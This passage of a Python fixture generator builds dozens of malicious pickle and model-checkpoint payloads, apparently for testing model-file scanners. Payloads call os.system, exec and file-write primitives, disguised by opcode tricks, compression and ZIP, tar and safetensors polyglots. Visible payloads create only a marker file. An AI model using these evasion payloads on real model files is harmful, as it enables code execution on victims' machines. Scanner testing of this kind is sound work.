         "tkinter.Tcl().eval('exec ...'): an embedded Tcl interpreter (works headless) runs the command")
def _(t):
    tcl = call(global_("tkinter", "Tcl"))
    ev = call(global_("builtins", "getattr"), tcl, ustr("eval"))
    return proto(2) + call(ev, ustr("exec " + sh(t))) + STOP


def pip_args(t):
    """A local, offline pip invocation whose only side effect is its log file (the marker)."""
    return ["--isolated", "--log", marker(t), "--disable-pip-version-check", "--no-input", "list"]


@fixture("pip-main", PL, "https://github.com/advisories/GHSA-655q-fx9r-782v",
         "pip.main([...]): pip runs with attacker-chosen arguments (here only a local '--log <marker> list')")
def _(t):
    args = strlist(pip_args(t), binunicode)
    return proto(2) + call(global_("pip", "main"), args) + STOP


@fixture("ensurepip-run-pip", PL, "https://github.com/advisories/GHSA-xp4f-hrf8-rxw7",
         "ensurepip._run_pip(args): spawns a Python child running pip with the given arguments")
def _(t):
    args = strlist(pip_args(t), binunicode)
    return proto(2) + call(global_("ensurepip", "_run_pip"), args) + STOP


@fixture("distutils-write-file", PL, "https://github.com/advisories/GHSA-m273-6v24-x4m4",
         "distutils.file_util.write_file(path, lines): arbitrary file write primitive (creates the marker itself)")
def _(t):
    return proto(2) + call(global_("distutils.file_util", "write_file"), binunicode(marker(t)), EMPTY_LIST) + STOP


@fixture("setuptools-distutils-spawn", PL, "https://github.com/promptfoo/modelaudit (docs/agents/picklescan-rce-bypass-game.md)",
         "setuptools._distutils.spawn.spawn(argv): vendored distutils, not under the 'distutils' module name")
def _(t):
    fn = global_("setuptools._distutils.spawn", "spawn")
    return proto(2) + call(fn, strlist(["touch", marker(t)], binunicode)) + STOP


@fixture("logging-filehandler", PL, "https://github.com/advisories/GHSA-m7j5-r2p5-c39r",
         "logging.FileHandler(path): constructing a log handler creates the file (file-create primitive)")
def _(t):
    return proto(2) + call(global_("logging", "FileHandler"), binunicode(marker(t))) + STOP


@fixture("io-fileio-create", PL, "https://github.com/mmaitre314/picklescan (io_FileIO fixture)",
         "_io.FileIO(path, 'w'): C-module file object opened for writing creates/truncates the file")
def _(t):
    return proto(2) + call(global_("_io", "FileIO"), binunicode(marker(t)), binunicode("w")) + STOP


@fixture("marshal-function", PL, "https://github.com/advisories/GHSA-565g-hwwr-4pp3",
         f"types.FunctionType(marshal.loads(bytecode), {{}})(): code object smuggled as marshal bytes (CPython {sys.version_info[0]}.{sys.version_info[1]} bytecode)")
def _(t):
    code = marshal.dumps(compile(py(t), "<airlock>", "exec"))
    co = call(global_("marshal", "loads"), binbytes(code))
    fn = call(global_("types", "FunctionType"), co, EMPTY_DICT)
    return proto(3) + fn + EMPTY_TUPLE + REDUCE + STOP


@fixture("types-codetype", PL, "https://github.com/mmaitre314/picklescan (types_CodeType fixture)",
         f"types.CodeType(...) built field by field, wrapped in FunctionType and called (CPython {sys.version_info[0]}.{sys.version_info[1]} bytecode)")
def _(t):
    c = compile(py(t), "<airlock>", "exec")
    if sys.version_info[:2] != (3, 11):
        raise SkipFixture("CodeType argument layout written for CPython 3.11")

    def tup(items):
        return MARK + b"".join(ustr(i) if isinstance(i, str) else binint(i) if isinstance(i, int) else NONE
                               for i in items) + TUPLE
    fields = [binint(c.co_argcount), binint(c.co_posonlyargcount), binint(c.co_kwonlyargcount),
              binint(c.co_nlocals), binint(c.co_stacksize), binint(c.co_flags), binbytes(c.co_code),
              tup(c.co_consts), tup(c.co_names), tup(c.co_varnames), ustr(c.co_filename), ustr(c.co_name),
              ustr(c.co_qualname), binint(c.co_firstlineno), binbytes(c.co_linetable),
              binbytes(c.co_exceptiontable), tup(c.co_freevars), tup(c.co_cellvars)]
    co = call(global_("types", "CodeType"), *fields)
    fn = call(global_("types", "FunctionType"), co, EMPTY_DICT)
    return proto(4) + fn + EMPTY_TUPLE + REDUCE + STOP


@fixture("zlib-obfuscated-exec", PL, "https://github.com/protectai/modelscan/issues/338",
         "exec(zlib.decompress(blob)): source compressed, so string heuristics see no 'os'/'system'/'open'")
def _(t):
    blob = zlib.compress(f"import os\nos.system({sh(t)!r})\n".encode())
    src = call(global_("zlib", "decompress"), binbytes(blob))
    return proto(3) + call(global_("builtins", "exec"), src) + STOP


@fixture("numpy-builtins-escape", PL, "https://github.com/protectai/modelscan/issues/330",
         "STACK_GLOBAL numpy '__builtins__.get' -> builtins dict .get('exec'): namespace escape through an allowlisted module")
def _(t):
    getter = sglobal("numpy", "__builtins__.get")
    exec_ = call(getter, ustr("exec"))
    return proto(4) + call(exec_, ustr(py(t))) + STOP


@fixture("copyreg-ext1", PL, "https://github.com/promptfoo/modelaudit/pull/623",
         "copyreg.add_extension('posix','system',241) then EXT1 241: the callable is fetched by extension code, no GLOBAL")
def _(t):
    reg = call(global_("copyreg", "add_extension"), binunicode("posix"), binunicode("system"), binint(241))
    return proto(2) + reg + POP + b"\x82" + bytes([241]) + MARK + binunicode(sh(t)) + TUPLE + REDUCE + STOP


# ----- B. opcode / parser tricks (raw pickles) -----------------------------


@fixture("memo-pop-decoy", PL, "https://github.com/mmaitre314/picklescan/issues/14",
         "real operands memoized then POPped, decoy 'collections','OrderedDict' pushed/popped, STACK_GLOBAL fed by BINGETs")
def _(t):
    body = (ustr("posix") + binput(0) + POP + ustr("system") + binput(1) + POP
            + ustr("collections") + ustr("OrderedDict") + POP + POP
            + binget(0) + binget(1) + STACK_GLOBAL)
    return proto(4) + call(body, ustr(sh(t))) + STOP


@fixture("memo-overwrite", PL, "https://github.com/mmaitre314/picklescan/issues/22",
         "memo slots 0/1 hold 'collections'/'OrderedDict' (MEMOIZE), then are overwritten by BINPUT with 'posix'/'system'; pickletools.dis even raises")
def _(t):
    body = (ustr("collections") + MEMOIZE + POP + ustr("OrderedDict") + MEMOIZE + POP
            + ustr("posix") + binput(0) + POP + ustr("system") + binput(1) + POP
            + binget(0) + binget(1) + STACK_GLOBAL)
    return proto(4) + call(body, ustr(sh(t))) + STOP


@fixture("dup-operands", PL, "generic",
         "STACK_GLOBAL operands separated from it by DUP/POP noise: scanners reading the two previous opcodes see no strings")
def _(t):
    body = ustr("posix") + DUP + POP + ustr("system") + DUP + POP + STACK_GLOBAL
    return proto(4) + call(body, ustr(sh(t))) + STOP


@fixture("stack-global-string-operands", PL, "https://github.com/advisories/GHSA-9gvj-pp9x-gcfr",
         "no PROTO, STRING ('S') operands for STACK_GLOBAL at stream offset 0: the exact GHSA-9gvj shape")
def _(t):
    return string0("os") + string0("system") + STACK_GLOBAL + string0(sh(t)) + TUPLE1 + REDUCE + STOP


@fixture("stack-global-short-binstring", PL, "https://github.com/advisories/GHSA-9gvj-pp9x-gcfr",
         "STACK_GLOBAL operands pushed as SHORT_BINSTRING (decoded to str by the unpickler), not unicode opcodes")
def _(t):
    return proto(4) + short_binstring("posix") + short_binstring("system") + STACK_GLOBAL \
        + short_binstring(sh(t)) + TUPLE1 + REDUCE + STOP


@fixture("unicode-escape-operands", PL, "generic",
         "protocol-0 UNICODE operands spelled with raw-unicode-escapes ('\\u0070osix'): byte-level string matching misses them")
def _(t):
    return (unicode0("\\u0070osix") + unicode0("\\u0073ystem") + STACK_GLOBAL
            + MARK + unicode0(sh(t)) + TUPLE + REDUCE + STOP)


@fixture("stack-global-computed-operands", PL, "https://github.com/protectai/modelscan/issues/331",
         "STACK_GLOBAL operands are results of str.join REDUCEs: no literal module/name string exists in the file")
def _(t):
    def joined(parts):
        return call(sglobal("builtins", "str.join"), ustr(""), strlist(parts))
    body = joined(["po", "six"]) + joined(["sys", "tem"]) + STACK_GLOBAL
    return proto(4) + call(body, ustr(sh(t))) + STOP


@fixture("inst-protocol0", PL, "https://github.com/mmaitre314/picklescan/issues/13",
         "protocol-0 INST opcode: import + call in one opcode; scanners that only look at GLOBAL/STACK_GLOBAL miss it")
def _(t):
    return MARK + string0(sh(t)) + inst("os", "system") + STOP


@fixture("obj-opcode", PL, "https://github.com/advisories/GHSA-mxhj-88fx-4pcv",
         "OBJ opcode (MARK callable args OBJ) calls posix.system; result POPped so AST-based tools dropped it")
def _(t):
    return proto(2) + MARK + global_("posix", "system") + binunicode(sh(t)) + OBJ + POP + NONE + STOP


def _class_with_new(t):
    """NEWOBJ-built pieces: methodcaller('system', cmd) and a class using it as __new__."""
    mc = global_("operator", "methodcaller") + MARK + ustr("system") + ustr(sh(t)) + TUPLE + NEWOBJ
    ns = EMPTY_DICT + MARK + ustr("__new__") + mc + ustr("system") + global_("posix", "system") + SETITEMS
    cls = global_("builtins", "type") + MARK + ustr("AirlockModel") + EMPTY_TUPLE + ns + TUPLE + NEWOBJ
    return cls


@fixture("newobj-class-synthesis", PL, "https://github.com/promptfoo/modelaudit (docs/agents/picklescan-rce-bypass-game.md)",
         "no REDUCE at all: NEWOBJ builds type('AirlockModel', (), {'__new__': methodcaller('system', cmd), 'system': posix.system}) and instantiates it")
def _(t):
    return proto(4) + _class_with_new(t) + EMPTY_TUPLE + NEWOBJ + STOP


@fixture("newobj-ex-class-synthesis", PL, "https://github.com/advisories/GHSA-mxhj-88fx-4pcv",
         "same class synthesis, instantiated with NEWOBJ_EX (args tuple + kwargs dict)")
def _(t):
    return proto(4) + _class_with_new(t) + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX + STOP


@fixture("build-setstate-attr", PL, "https://github.com/advisories/GHSA-mhc9-48gj-9gp3",
         "argparse.Namespace() (ML-allowlisted) gets __setstate__=posix.system via BUILD slot-state, then BUILD cmd calls it")
def _(t):
    ns = call(global_("argparse", "Namespace"))
    slotstate = EMPTY_DICT + ustr("__setstate__") + global_("posix", "system") + SETITEM
    return proto(2) + ns + MARK + NONE + slotstate + TUPLE + BUILD + binunicode(sh(t)) + BUILD + STOP


@fixture("build-setattr-module", PL, "https://github.com/protectai/modelscan/issues/85",
         "BUILD setattr()s 'posix'/'system' onto the json.decoder module, then dotted STACK_GLOBALs read them back as operands")
def _(t):
    mod = sglobal("json", "decoder")
    state = EMPTY_DICT + MARK + ustr("airlock_m") + ustr("posix") + ustr("airlock_n") + ustr("system") + SETITEMS
    setattrs = mod + MARK + NONE + state + TUPLE + BUILD + POP
    fn = sglobal("json", "decoder.airlock_m") + sglobal("json", "decoder.airlock_n") + STACK_GLOBAL
    return proto(4) + setattrs + call(fn, ustr(sh(t))) + STOP


@fixture("liveness-build-exception", PL, "https://github.com/advisories/GHSA-r7v6-mfhq-g3m2",
         "payload result stored into an Exception instance by BUILD and returned: defeats 'unused call result' liveness heuristics")
def _(t):
    exc = call(global_("builtins", "Exception"))
    state = EMPTY_DICT + ustr("detail") + system_call(t) + SETITEM
    return proto(2) + exc + state + BUILD + STOP


@fixture("broken-tail-invalid-opcode", PL, "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
         "payload REDUCE followed by an invalid opcode (0xff): the call runs before the unpickler fails; tools that discard erroring files fail open")
def _(t):
    return proto(2) + system_call(t) + b"\xff" + b"junk" * 4


@fixture("broken-tail-truncated", PL, "https://github.com/mmaitre314/picklescan (broken_model.pkl)",
         "payload REDUCE then end of file with no STOP: executes, then EOFError")
def _(t):
    return proto(2) + system_call(t)


@fixture("tail-nonstr-stack-global", PL, "https://github.com/protectai/modelscan/issues/338",
         "after the payload, STACK_GLOBAL with SHORT_BINBYTES/BININT operands: crashes scanners (TypeError/unhashable) after the call ran")
def _(t):
    return proto(4) + system_call(t) + POP + binbytes(b"os") + binint(42) + STACK_GLOBAL + STOP


@fixture("deep-mark-nesting", PL, "https://github.com/trailofbits/fickling (InterpreterLimits)",
         "100,000 MARK opcodes before the payload: exhausts recursion/stack limits of scanners, CPython just grows its mark stack")
def _(t):
    return proto(2) + MARK * 100_000 + system_call(t) + STOP


@fixture("dotted-global-proto4", PL, "https://github.com/protectai/modelscan/issues/89",
         "GLOBAL 'posixpath' 'os.system' under PROTO 4: dotted name walks posixpath.os.system; module key is only 'posixpath'")
def _(t):
    return proto(4) + call(global_("posixpath", "os.system"), ustr(sh(t))) + STOP


@fixture("fix-imports-builtin-eval", PL, "https://github.com/python/cpython/blob/3.11/Lib/_compat_pickle.py",
         "GLOBAL '__builtin__ eval' under PROTO 2: fix_imports maps the Python-2 name to builtins.eval")
def _(t):
    return proto(2) + call(global_("__builtin__", "eval"), binunicode(py(t))) + STOP


@fixture("fix-imports-commands", PL, "https://github.com/python/cpython/blob/3.11/Lib/_compat_pickle.py",
         "no PROTO, GLOBAL 'commands getoutput' -> subprocess.getoutput through fix_imports ('commands' is a Python-2 module)")
def _(t):
    return global_("commands", "getoutput") + MARK + string0(sh(t)) + TUPLE + REDUCE + STOP


@fixture("misplaced-proto", PL, "https://github.com/trailofbits/fickling (MisplacedProto analysis)",
         "starts PROTO 2, switches to PROTO 4 mid-stream so the later dotted GLOBAL resolves; header-only protocol checks are wrong")
def _(t):
    return (proto(2) + literal({"state": 1}) + POP + proto(4)
            + call(global_("posixpath", "os.system"), binunicode(sh(t))) + STOP)


@fixture("frame-split-opcode", PL, "https://github.com/trailofbits/fickling (OpcodeCrossesFrame)",
         "first FRAME ends inside a SHORT_BINUNICODE operand: pickle.py/fickling reject it, the C unpickler (pickle.load) treats frames as prefetch hints")
def _(t):
    first = ustr("posix")  # 7 bytes; the first frame ends after 4 of them
    rest = ustr("system") + STACK_GLOBAL + ustr(sh(t)) + TUPLE1 + REDUCE + STOP
    return proto(4) + frame(4) + first + frame(len(rest) - 3) + rest


@fixture("second-pickle", TL, "https://github.com/mmaitre314/picklescan (malicious6.pkl)",
         "benign first pickle (the legacy magic number) and the payload in the 2nd pickle of the stream; single-pickle scanners stop at STOP",
         filename="second-pickle.pt")
def _(t):
    return pickle.dumps(TORCH_LEGACY_MAGIC, protocol=2) + proto(2) + system_call(t) + STOP


# ----- C. containers -------------------------------------------------------


@fixture("torch-zip-data-pkl", TL, "generic",
         "torch.save-style ZIP (archive/data.pkl, version, byteorder) whose data.pkl runs posix.system then returns {}",
         filename="torch-zip-data-pkl.pt")
def _(t):
    return torch_zip(side_effect_then(t, {}))


@fixture("zip-deflated-data-pkl", TL, "generic",
         "data.pkl stored DEFLATE-compressed: torch accepts it; raw-byte scanners of the archive see no opcodes",
         filename="zip-deflated-data-pkl.pt")
def _(t):
    return torch_zip(side_effect_then(t, {}), deflate=True)


@fixture("zip-local-name-mismatch", TL, "https://github.com/advisories/GHSA-7q5r-7gvp-wc82",
         "local header names 'archive/datap.kl', central directory 'archive/data.pkl': zipfile raises BadZipFile, torch never compares",
         filename="zip-local-name-mismatch.pt")
def _(t):
    return torch_zip(side_effect_then(t, {}), local_name="archive/datap.kl")


for _bit, _label, _why in ((0x1, "encrypted", "encryption"), (0x20, "patch", "compressed-patch data"),
                           (0x40, "strong-encryption", "strong encryption")):
    def _build(t, bit=_bit):
        return torch_zip(side_effect_then(t, {}), local_flags=bit)
    fixture(f"zip-local-flag-{_label}", TL, "https://github.com/advisories/GHSA-w8jq-xcqf-f792",
            f"general-purpose flag bit {_bit:#x} ({_why}) set in the LOCAL header only: readers honouring it skip the entry, torch reads only central flags",
            filename=f"zip-local-flag-{_label}.pt")(_build)


@fixture("zip-bad-crc", TL, "https://github.com/advisories/GHSA-mjqp-26hc-grxg",
         "wrong CRC-32 for data.pkl: zipfile/zip crates raise on read, torch builds miniz with CRC checks disabled",
         filename="zip-bad-crc.pt")
def _(t):
    return torch_zip(side_effect_then(t, {}), crc=0xDEADBEEF)


@fixture("zip-duplicate-data-pkl", TL, "https://github.com/mmaitre314/picklescan (zip differential fixtures)",
         "two 'archive/data.pkl' entries, malicious first: torch's binary search picks it, zipfile's name dict keeps the last (benign) one",
         filename="zip-duplicate-data-pkl.pt")
def _(t):
    return build_zip([
        dict(name="archive/data.pkl", data=side_effect_then(t, {})),
        dict(name="archive/data.pkl", data=pickle.dumps({}, protocol=2)),
        dict(name="archive/version", data=b"3\n"),
    ])


@fixture("zip-case-collision", TL, "generic",
         "'archive/DATA.PKL' (malicious) before 'archive/data.pkl' (benign): torch matches record names case-insensitively and lands on the first",
         filename="zip-case-collision.pt")
def _(t):
    return build_zip([
        dict(name="archive/DATA.PKL", data=side_effect_then(t, {})),
        dict(name="archive/data.pkl", data=pickle.dumps({}, protocol=2)),
        dict(name="archive/version", data=b"3\n"),
    ])


@fixture("zip-uppercase-only", TL, "generic",
         "only 'archive/DATA.PKL' exists: scanners looking for the exact name 'data.pkl' find no pickle, torch loads it",
         filename="zip-uppercase-only.pt")
def _(t):
    return build_zip([
        dict(name="archive/DATA.PKL", data=side_effect_then(t, {})),
        dict(name="archive/VERSION", data=b"3\n"),
    ])


@fixture("zip-prepended-legacy-polyglot", TL, "generic",
         "legacy torch stream (payload in the magic pickle) followed by a benign torch ZIP: zip tools see the ZIP, torch checks only bytes 0-3 and runs the pickles",
         filename="zip-prepended-legacy-polyglot.pt")
def _(t):
    legacy = torch_legacy(0, side_effect_then(t, TORCH_LEGACY_MAGIC))
    return legacy + torch_zip(pickle.dumps({}, protocol=2))


@fixture("legacy-magic-reduce", TL, "https://github.com/advisories/GHSA-97f8-7cmv-76j2",
         "legacy torch stream whose magic number is produced by REDUCE eval(...): no INT opcode for the magic, and the eval runs the command",
         filename="legacy-magic-reduce.pt")
def _(t):
    expr = f"__import__('os').system({sh(t)!r}) or {TORCH_LEGACY_MAGIC:#x}"
    return torch_legacy(0, proto(2) + call(global_("builtins", "eval"), binunicode(expr)) + STOP)


for _slot, _label, _what in ((1, "protocol", "protocol-version pickle (2nd)"),
                             (2, "sysinfo", "sys_info pickle (3rd)"),
                             (3, "main-object", "main object pickle (4th)"),
                             (4, "storage-keys", "storage-keys pickle (5th)")):
    def _build(t, slot=_slot):
        return torch_legacy(slot, side_effect_then(t, legacy_values()[slot]))
    fixture(f"legacy-{_label}-slot", TL, "https://github.com/advisories/GHSA-97f8-7cmv-76j2",
            f"legacy torch stream with the payload in the {_what}: scanners that only read the main pickle miss it; load succeeds",
            filename=f"legacy-{_label}-slot.pt")(_build)


@fixture("legacy-tar", TL, "generic",
         "pre-1.0 torch .tar checkpoint (members storages/tensors/pickle): torch.load still unpickles 'storages' with weights_only=False",
         filename="legacy-tar.pt")
def _(t):
    storages = side_effect_then(t, 0) + pickle.dumps([], protocol=2)
    return tar_bytes([("storages", storages), ("tensors", pickle.dumps(0, protocol=2)),
                      ("pickle", pickle.dumps({}, protocol=2))])


def ustar_member(name, data, fmt=tarfile.USTAR_FORMAT, **pax):
    """One tar member (header blocks + padded data), name given as bytes or str."""
    if isinstance(name, bytes):
        name = name.decode("utf-8", "surrogateescape")
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = 0
    info.mode = 0o644
    if pax:
        info.pax_headers = pax
        fmt = tarfile.PAX_FORMAT
    head = info.tobuf(fmt, "utf-8", "surrogateescape")
    return head + data + b"\0" * (-len(data) % 512)


def tar_checksum(block, fmt):
    """Rewrite a header block's checksum field, written in the form `fmt`."""
    block = bytearray(block)
    total = sum(block[:148]) + 8 * 32 + sum(block[156:512])
    block[148:156] = (fmt % total).ljust(8, b"\0")[:8]
    return bytes(block)


def legacy_stream_head():
    """The legacy stream's magic, protocol, sys_info, main pickle and keys."""
    return (pickle.dumps(TORCH_LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
            + b"}." + b"}." + b"].")


@fixture("tar-legacy-polyglot", TL, "generic (tar/legacy-stream polyglot)",
         "first tar member named with a whole benign legacy pickle stream: a reader that checks the legacy magic first sees a clean legacy checkpoint, torch.load tries tarfile first and unpickles the 'storages' member",
         filename="tar-legacy-polyglot.pt")
def _(t):
    return (ustar_member(legacy_stream_head(), b"x")
            + ustar_member("storages", side_effect_then(t, 0) + pickle.dumps([], protocol=2))
            + ustar_member("tensors", pickle.dumps(0, protocol=2))
            + ustar_member("pickle", pickle.dumps({}, protocol=2)) + b"\0" * 1024)


@fixture("tar-checksum-0o", TL, "generic (tarfile.nti accepts int(s, 8) forms)",
         "tar header whose checksum is written '0o…': Python's tarfile accepts it (int(s, 8)), strict octal readers take the file for a raw pickle stream",
         filename="tar-checksum-0o.pt")
def _(t):
    first = ustar_member(b"\x80\x02}.", b"x")
    first = tar_checksum(first[:512], b"0o%06o") + first[512:]
    return (first + ustar_member("storages", side_effect_then(t, 0) + pickle.dumps([], protocol=2))
            + ustar_member("tensors", pickle.dumps(0, protocol=2))
            + ustar_member("pickle", pickle.dumps({}, protocol=2)) + b"\0" * 1024)


@fixture("tar-safetensors-polyglot", TL, "generic (safetensors/tar polyglot)",
         "a valid safetensors file whose first 512 bytes are also a valid tar header: safetensors loaders see one U8 tensor, torch.load opens it with tarfile and unpickles 'storages'",
         filename="tar-safetensors-polyglot.pt")
def _(t):
    d = bytearray(ustar_member("placeholder", b"x")
                  + ustar_member("storages", side_effect_then(t, 0) + pickle.dumps([], protocol=2))
                  + ustar_member("tensors", pickle.dumps(0, protocol=2))
                  + ustar_member("pickle", pickle.dumps({}, protocol=2)) + b"\0" * 1024)
    n = 84
    k = len(d) - 8 - n
    hdr = json.dumps({"t": {"dtype": "U8", "shape": [k], "data_offsets": [0, k]}}).encode().ljust(n)
    assert len(hdr) == n
    d[0:8] = struct.pack("<Q", n)
    d[8:8 + n] = hdr
    return tar_checksum(bytes(d[:512]), b"%06o\0 ") + bytes(d[512:])


@fixture("tar-pax-size", TL, "generic (PAX size record)",
         "a PAX 'size' record turns a whole decoy checkpoint into the data of one member; readers that ignore PAX records see the decoy, tarfile sees the members after it",
         filename="tar-pax-size.pt")
def _(t):
    decoy = (ustar_member("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
             + ustar_member("tensors", pickle.dumps(0, protocol=2))
             + ustar_member("pickle", pickle.dumps({}, protocol=2)) + b"\0" * 1024)
    head = ustar_member("skip", b"", size=str(len(decoy)))
    return (head + decoy
            + ustar_member("storages", side_effect_then(t, 0) + pickle.dumps([], protocol=2))
            + ustar_member("tensors", pickle.dumps(0, protocol=2))
            + ustar_member("pickle", pickle.dumps({}, protocol=2)) + b"\0" * 1024)


@fixture("tar-last-member-wins", TL, "generic (tarfile.getmember returns the last match)",
         "two 'pickle' members: readers that take the first see an empty dict, tarfile (and so torch.load) takes the last",
         filename="tar-last-member-wins.pt")
def _(t):
    return (ustar_member("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
            + ustar_member("tensors", pickle.dumps(0, protocol=2))
            + ustar_member("pickle", pickle.dumps({}, protocol=2))
            + ustar_member("pickle", side_effect_then(t, {})) + b"\0" * 1024)


@fixture("tar-storage-element-size", TL, "generic (legacy tar storage layout)",
         "a DoubleStorage of 4 elements (32 bytes) holding a decoy pickle at byte 16: a reader guessing 4-byte elements resumes at the decoy, torch skips 32 bytes and unpickles the payload",
         filename="tar-storage-element-size.pt")
def _(t):
    args = (proto(2) + b"(" + binunicode("0") + binunicode("cpu")
            + global_("torch", "DoubleStorage") + b"t.")
    data = b"\0" * 16 + b"\x80\x02]." + b"\0" * 12
    assert len(data) == 32
    storages = (pickle.dumps(1, protocol=2) + args + struct.pack("<q", 4) + data
                + side_effect_then(t, []))
    return (ustar_member("storages", storages)
            + ustar_member("tensors", pickle.dumps(0, protocol=2))
            + ustar_member("pickle", pickle.dumps({}, protocol=2)) + b"\0" * 1024)


@fixture("ext-bin-raw-pickle", TL, "https://github.com/advisories/GHSA-jgw4-cr84-mqxg",
         "a plain pickle named model.bin: extension-routed scanners expect a torch ZIP, torch.load falls back to the legacy pickle path",
         filename="ext-bin-raw-pickle.bin")
def _(t):
    return side_effect_then(t, TORCH_LEGACY_MAGIC)


@fixture("ext-safetensors-case", TL, "generic",
         "raw pickle named *.SAFETENSORS: case-insensitive scanners route it to a safetensors parser, torch.load's '.safetensors' check is case-sensitive",
         filename="ext-safetensors-case.SAFETENSORS")
def _(t):
    return side_effect_then(t, TORCH_LEGACY_MAGIC)


@fixture("ext-txt-torch-zip", TL, "https://github.com/advisories/GHSA-769v-p64c-89pr",
         "a malicious torch ZIP named weights.txt: skipped by scanners that pick files by extension, torch.load sniffs content",
         filename="ext-txt-torch-zip.txt")
def _(t):
    return torch_zip(side_effect_then(t, {}))


@fixture("ext-npy-raw-pickle", NL, "generic",
         "a raw pickle named .npy: no NUMPY magic, so numpy.load(allow_pickle=True) falls back to pickle.load",
         filename="ext-npy-raw-pickle.npy")
def _(t):
    return proto(2) + system_call(t) + STOP


@fixture("npy-object-dtype", NL, "https://github.com/advisories/GHSA-93mv-x874-956g",
         "valid .npy header with descr '|O': the array body is a pickle that numpy.load(allow_pickle=True) unpickles",
         filename="npy-object-dtype.npy")
def _(t):
    return npy_object(proto(2) + system_call(t) + STOP)


JL = "joblib.load"


def joblib_wrapper(dtype_str, flags, shape, aligned=False):
    """Opcodes for a `NumpyArrayWrapper` instance and its BUILD, as joblib's
    pickler writes them (protocol 2 text globals here); joblib.load reads the
    array right after the BUILD."""
    dtype = (call(global_("numpy", "dtype"), ustr(dtype_str), b"\x89", b"\x88")
             + MARK + binint(3) + ustr("|" if dtype_str[0] in "OSV" else "<") + NONE + NONE + NONE
             + binint(-1) + binint(-1) + binint(flags) + TUPLE + b"b")
    state = (b"}" + MARK
             + ustr("subclass") + global_("numpy", "ndarray")
             + ustr("shape") + MARK + b"".join(binint(d) for d in shape) + TUPLE
             + ustr("order") + ustr("C")
             + ustr("dtype") + dtype
             + ustr("allow_mmap") + b"\x89")
    if aligned:
        state += ustr("numpy_array_alignment_bytes") + binint(16)
    state += b"u"
    return global_("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + b"\x81" + state + b"b"


@fixture("joblib-object-array", JL, "generic (joblib object arrays are nested pickles)",
         "joblib dump whose object array's data is a nested pickle: joblib.load unpickles it with a fresh unrestricted unpickler in the middle of the stream",
         filename="joblib-object-array.joblib")
def _(t):
    return (proto(2) + joblib_wrapper("O8", 63, [1])
            + side_effect_then(t, ["x"]) + STOP)


@fixture("joblib-after-array", JL, "generic (inline array bytes derail linear scanners)",
         "payload placed after 16 bytes of 0xff inline array data: pickle.load (and scanners decoding linearly) fail on the array bytes, joblib.load skips them and runs the payload",
         filename="joblib-after-array.joblib")
def _(t):
    return (proto(2) + joblib_wrapper("f8", 0, [2]) + b"\xff" * 16
            + system_call(t) + POP + STOP)


NZ = "numpy.load-npz"
PG = "pickle.load-gzip"


def npz(members):
    """An .npz archive (stored members, as np.savez writes them)."""
    return build_zip([{"name": name, "data": data} for name, data in members])


def numeric_npy():
    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + b"\0" * 8


@fixture("npz-object-member", NZ, "https://github.com/advisories/GHSA-93mv-x874-956g",
         "an .npz whose second array has object dtype: np.load(allow_pickle=True)[name] unpickles its body",
         filename="npz-object-member.npz")
def _(t):
    return npz([("weights.npy", numeric_npy()),
                ("labels.npy", npy_object(proto(2) + system_call(t) + STOP))])


@fixture("npz-duplicate-name", NZ, "generic (zipfile: the last entry of a name wins)",
         "two entries named labels.npy: readers taking the first see numbers, np.load (Python's zipfile) reads the last, an object array",
         filename="npz-duplicate-name.npz")
def _(t):
    return npz([("labels.npy", numeric_npy()),
                ("labels.npy", npy_object(proto(2) + system_call(t) + STOP))])


@fixture("torch-zip-npy-member", NZ, "generic (torch checkpoint / npz polyglot)",
         "a clean torch checkpoint with an extra archive/extra.npy object array: torch.load sees weights, np.load of the same file (an NpzFile) unpickles the member",
         filename="torch-zip-npy-member.pt")
def _(t):
    return build_zip([
        {"name": "archive/data.pkl", "data": proto(2) + literal({"step": 1}) + STOP},
        {"name": "archive/version", "data": b"3\n"},
        {"name": "archive/extra.npy", "data": npy_object(proto(2) + system_call(t) + STOP)},
    ])


@fixture("gzip-pickle", PG, "generic (compressed pickles)",
         "a pickle inside gzip: scanners that do not decompress see no opcodes, pickle.load(gzip.open(f)) runs it",
         filename="gzip-pickle.pkl.gz")
def _(t):
    return gzip.compress(proto(2) + system_call(t) + STOP, mtime=0)


@fixture("joblib-zlib", JL, "generic (compressed joblib dumps)",
         "a joblib file compressed with zlib (joblib.dump(compress=3)): joblib.load decompresses and unpickles it",
         filename="joblib-zlib.joblib")
def _(t):
    return zlib.compress(proto(2) + joblib_wrapper("f8", 0, [1]) + b"\0" * 8
                         + system_call(t) + POP + STOP)


@fixture("joblib-xz", JL, "generic (compressed joblib dumps)",
         "a joblib file compressed with xz: joblib.load picks the decompressor by magic bytes",
         filename="joblib-xz.joblib")
def _(t):
    return lzma.compress(proto(2) + system_call(t) + STOP, format=lzma.FORMAT_XZ)


# ----- gadgets found by the derived danger catalogue ------------------------
# Families taken from the call paths scripts/gen_danger_catalogue.py derives
# (crates/policy/data/danger_generated.tsv), not from a published list.


@fixture("torch-fx-exec-with-source", PL, "derived: torch.fx.graph_module._exec_with_source -> builtins.exec",
         "torch.fx.graph_module._exec_with_source(src, {}): the FX code generator's exec of generated source")
def _(t):
    return proto(2) + call(global_("torch.fx.graph_module", "_exec_with_source"),
                           binunicode(py(t)), EMPTY_DICT) + STOP


@fixture("numpy-memmap-create", PL, "derived: numpy._core.memmap.memmap.__new__ -> builtins.open",
         "numpy.memmap(path, 'uint8', 'w+', 0, (1,)): the array class itself creates (or overwrites) a file of the attacker's naming")
def _(t):
    args = [ustr(marker(t)), ustr("uint8"), ustr("w+"), literal(0), literal((1,))]
    return proto(2) + call(global_("numpy", "memmap"), *args) + STOP


@fixture("torch-save-file", PL, "derived: torch.serialization.save -> builtins.open",
         "torch.serialization.save({}, path): writes a checkpoint over any path the loading user may write")
def _(t):
    return proto(2) + call(global_("torch.serialization", "save"), EMPTY_DICT, ustr(marker(t))) + STOP


@fixture("datapipe-setstate-unpickle", PL,
